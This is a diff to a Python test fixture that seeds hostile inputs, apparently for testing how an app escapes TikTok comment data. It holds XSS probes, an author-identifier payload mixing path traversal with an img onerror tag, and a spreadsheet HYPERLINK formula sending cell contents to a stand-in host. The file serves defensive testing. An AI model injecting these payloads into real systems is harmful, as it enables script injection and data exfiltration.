@@ -37,8 +37,8 @@ JS_URL = "javascript:alert(1)"
 QUOTE = "'-alert(1)-'"
 #: One string carrying every payload; it starts with the URL one so an unescaped href shows it.
 PAYLOAD = f"{JS_URL}//{IMG}{SCRIPT}{QUOTE}"
-#: A TikTok author key cannot hold "/" (it is a path segment), the rest still applies.
-KEY_PAYLOAD = "<img src=x onerror=alert(1)>"
+#: TikTok's commenter identifier is theirs to shape: path separators, query and fragment too.
+KEY_PAYLOAD = "../<img src=x onerror=alert(1)>/?q=1#x%2F"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -63,7 +63,7 @@ class Seeded:
             "media_id": str(self.media.id),
             "post_id": str(self.post.id),
             "comment_id": str(self.comment.id),
-            "author_key": self.hostile_author_comment.author_key,
+            "person_ref": self.hostile_author_comment.person_ref,
             "membership_id": str(self.membership.id),
             "invitation_id": str(self.invitation.id),
             "token": self.invitation.token,
